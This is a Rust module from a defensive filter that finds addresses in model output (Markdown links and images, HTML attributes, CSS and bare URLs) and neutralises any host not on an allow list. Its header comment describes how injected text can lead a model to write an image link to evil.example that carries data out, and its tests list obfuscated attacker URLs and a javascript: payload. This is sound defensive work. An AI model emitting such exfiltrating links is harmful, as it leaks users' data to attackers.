//! Addresses in text that a screen would fetch or open: how data leaves without a tool.
//!
//! A model that has read an attacker's text can write `![](https://evil.example/?d=…)`, and the
//! client fetches it. What is not on the list of hosts is turned into words, wherever Markdown,
//! HTML or CSS would take it for an address, and where a reader of plain text would make a link.

use doorward_core::Pattern;

use super::matcher::{Proof, Rule, Ruling};

/// Where an address stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    /// In running text.
    Bare,
    /// After `](`, of a link or an image.
    Inline,
    /// After `]:`, for references to it.
    Reference,
    /// The value of an HTML attribute, or CSS.
    Attribute,
}

/// A scheme's colon and slashes, however they are written.
const AUTHORITY: &str = r"(?::|&colon;|&#0{0,5}58;|&#[xX]0{0,5}3[aA];)(?:[/\\]|&sol;|&bsol;|&#0{0,5}(?:47|92);|&#[xX]0{0,5}(?:2[fF]|5[cC]);){2}";
/// The rest of an address.
const REST: &str = r#"[^\s<>"'`)\]\x00-\x1f]"#;
/// What an HTML attribute's value may hold. Line ends and tabs do not end it: browsers drop them.
const DOUBLE: &str = r#""[^"<>]{1,}"#;
const SINGLE: &str = "'[^'<>]{1,}";

/// The rules.
pub(super) fn rules(images_only: bool) -> Vec<Rule> {
    let place = |id: &'static str, regex: String, safe, place| Rule {
        regex: regex.into(),
        proof: Proof::Link(place),
        ..Rule::new(id, "", safe)
    };
    let reference =
        place("reference", format!(r"\]:\s{{0,3}}<?{REST}{{1,}}"), 12, Place::Reference);
    let css = place(
        "css",
        format!(r#"(?i:url\(\s{{0,8}}|@import\s{{1,8}})(?:{DOUBLE}|{SINGLE}|[^\s"'<>)]{{1,}})"#),
        16,
        Place::Attribute,
    );
    if images_only {
        return vec![
            place(
                "image",
                format!(r"!\[[^\]\n]{{0,400}}\]\(\s{{0,8}}<?{REST}{{1,}}"),
                420,
                Place::Inline,
            ),
            reference,
            place("html", attribute("src|srcset|poster|background|data"), 24, Place::Attribute),
            css,
        ];
    }
    vec![
        place("link", format!(r"\]\(\s{{0,8}}<?{REST}{{1,}}"), 12, Place::Inline),
        reference,
        place(
            "html",
            attribute(
                "src|srcset|href|poster|background|data|action|formaction|cite|ping|xlink:href",
            ),
            24,
            Place::Attribute,
        ),
        css,
        place(
            "url",
            format!(r"\b[A-Za-z][A-Za-z0-9+.-]{{1,20}}{AUTHORITY}{REST}*"),
            24,
            Place::Bare,
        ),
        place("url", format!(r"\b(?i:www)\.[A-Za-z0-9-]{{1,63}}\.{REST}{{1,}}"), 8, Place::Bare),
    ]
}

fn attribute(names: &str) -> String {
    format!(r#"\b(?i:{names})\s{{0,8}}=\s{{0,8}}(?:{DOUBLE}|{SINGLE}|[^\s"'<>]{{1,}})"#)
}

/// What an address at a place is worth.
pub(super) fn judge(place: Place, text: &str, hosts: &[Pattern]) -> Option<Ruling> {
    let from = match place {
        Place::Bare => 0,
        Place::Inline => text.rfind("](").map(|at| at + 2)?,
        Place::Reference => 2,
        Place::Attribute if text.starts_with('@') => text.find(['"', '\'', ' ', '\t'])?,
        Place::Attribute => text.find(['=', '('])? + 1,
    };
    let address = text.get(from..)?;
    // `srcset` lists several.
    let several = place == Place::Attribute && text.to_ascii_lowercase().starts_with("srcset");
    let leads = |address: &str| lead(address, place);
    let verdicts: Vec<Lead> =
        if several { address.split(',').map(leads).collect() } else { vec![leads(address)] };
    let allowed = |lead: &Lead| match lead {
        Lead::Nowhere => true,
        Lead::Host(host) => hosts.iter().any(|pattern| pattern.matches(host)),
        Lead::Unclear => false,
    };
    let Some(bad) = verdicts.iter().find(|lead| !allowed(lead)) else {
        return Some(Ruling::Allowed);
    };
    let words = format!("(link removed: {}", bad.words());
    let (cut, instead) = match place {
        Place::Bare => (0, format!("{words})")),
        // A space between, and it is a link no longer. What closed it closes the words.
        Place::Inline => (from - 1, format!(" {words}")),
        Place::Reference => (1, format!(" {words})")),
        Place::Attribute => (from, blank(address)),
    };
    Some(Ruling::Found { part: cut..text.len(), instead: Some(instead) })
}

/// An address that leads nowhere, in the quotes that the other was in.
fn blank(address: &str) -> String {
    let open: String = address
        .chars()
        .take_while(|char| char.is_whitespace() || matches!(char, '"' | '\''))
        .collect();
    format!("{open}about:blank")
}

/// Where an address leads.
#[derive(Debug, PartialEq, Eq)]
enum Lead {
    /// To no other machine: a place on the page, a path, a person to write to.
    Nowhere,
    /// To this host, in lower case.
    Host(String),
    /// It cannot be read as one thing.
    Unclear,
}

impl Lead {
    /// In words that are no address.
    fn words(&self) -> String {
        match self {
            Self::Host(host) => host.replace('.', "[.]"),
            Self::Nowhere | Self::Unclear => "unclear".to_owned(),
        }
    }
}

fn lead(address: &str, place: Place) -> Lead {
    let plain = decoded(address);
    let plain = plain.trim_start_matches(['<', '"', '\'', ' ']);
    if place == Place::Bare && plain.get(..4).is_some_and(|it| it.eq_ignore_ascii_case("www.")) {
        return host(plain);
    }
    let slashes = |text: &str| text.len() - text.trim_start_matches(['/', '\\']).len();
    if slashes(plain) >= 2 {
        return host(&plain[slashes(plain)..]);
    }
    let end = plain.find(|char: char| !(char.is_ascii_alphanumeric() || "+.-".contains(char)));
    let Some((scheme, rest)) = end.and_then(|end| plain.split_at_checked(end)) else {
        return Lead::Nowhere;
    };
    let Some(rest) = rest.strip_prefix(':') else { return Lead::Nowhere };
    match scheme.to_ascii_lowercase().as_str() {
        "mailto" | "tel" | "about" if place != Place::Bare => Lead::Nowhere,
        // To a browser these need no slashes.
        "http" | "https" | "ftp" | "ws" | "wss" => host(rest.trim_start_matches(['/', '\\'])),
        _ if slashes(rest) >= 2 => host(&rest[slashes(rest)..]),
        _ if place == Place::Bare => Lead::Nowhere,
        // `javascript:`, `data:` and what else there may be.
        _ => Lead::Unclear,
    }
}

/// The host of an authority and what follows (RFC 3986 §3.2).
fn host(rest: &str) -> Lead {
    let end = rest.find(['/', '\\', '?', '#', ' ', '"', '\'', '>', ')']).unwrap_or(rest.len());
    let authority = &rest[..end];
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = match host.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|byte| byte.is_ascii_digit()) => host,
        _ => host,
    };
    let host = host.trim_end_matches(['.', ',', ';', '!', '*', '_']).to_ascii_lowercase();
    let fits = !host.is_empty()
        && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-_".contains(&byte));
    if fits { Lead::Host(host) } else { Lead::Unclear }
}

/// As a browser reads it: without line ends and tabs (WHATWG URL §4.4), character references and
/// Markdown's backslashes resolved.
fn decoded(address: &str) -> String {
    let mut plain = String::with_capacity(address.len());
    let mut rest = address;
    while let Some(char) = rest.chars().next() {
        if char == '&'
            && let Some((decoded, length)) = reference(rest)
        {
            plain.push(decoded);
            rest = &rest[length..];
            continue;
        }
        rest = &rest[char.len_utf8()..];
        if !matches!(char, '\t' | '\r' | '\n') {
            plain.push(char);
        }
    }
    plain
}

/// A character reference at the beginning of a text: what it stands for, and its length.
fn reference(text: &str) -> Option<(char, usize)> {
    let body = text.strip_prefix('&')?;
    if let Some(digits) = body.strip_prefix('#') {
        let (digits, radix, before) = match digits.strip_prefix(['x', 'X']) {
            Some(digits) => (digits, 16, 3),
            None => (digits, 10, 2),
        };
        let count = digits.bytes().take_while(|byte| char::from(*byte).is_digit(radix)).count();
        let value = u32::from_str_radix(digits.get(..count.min(8))?, radix).ok()?;
        let semicolon = usize::from(digits[count..].starts_with(';'));
        return Some((char::from_u32(value)?, before + count + semicolon));
    }
    let named = [
        ("colon;", ':'),
        ("sol;", '/'),
        ("bsol;", '\\'),
        ("period;", '.'),
        ("amp;", '&'),
        ("Tab;", '\t'),
        ("NewLine;", '\n'),
        ("commat;", '@'),
    ];
    let (name, char) = named.into_iter().find(|(name, _)| body.starts_with(name))?;
    Some((char, name.len() + 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn where_addresses_lead() {
        let host = |name: &str| Lead::Host(name.to_owned());
        for (place, address, leads) in [
            (Place::Bare, "https://a.example/b?c", host("a.example")),
            (Place::Bare, "HTTPS:\\\\A.Example\\b", host("a.example")),
            (Place::Bare, "https://good.example@evil.example/", host("evil.example")),
            (Place::Bare, "https://evil.example:443/", host("evil.example")),
            (Place::Bare, "https&colon;//evil.example", host("evil.example")),
            (Place::Bare, "www.evil.example/x", host("www.evil.example")),
            (Place::Bare, "https://b\u{fc}cher.example", Lead::Unclear),
            (Place::Inline, "/a/b", Lead::Nowhere),
            (Place::Inline, "#top", Lead::Nowhere),
            (Place::Inline, "mailto:a@b.example", Lead::Nowhere),
            (Place::Inline, "//evil.example/x", host("evil.example")),
            (Place::Inline, "ht&#116;ps://evil.example", host("evil.example")),
            (Place::Inline, "https:evil.example", host("evil.example")),
            (Place::Inline, "javascript:alert(1", Lead::Unclear),
            (Place::Attribute, "\"ht\ntps://evil.example", host("evil.example")),
            (Place::Attribute, "data:text/html,x", Lead::Unclear),
        ] {
            assert_eq!(lead(address, place), leads, "{address}");
        }
    }
}
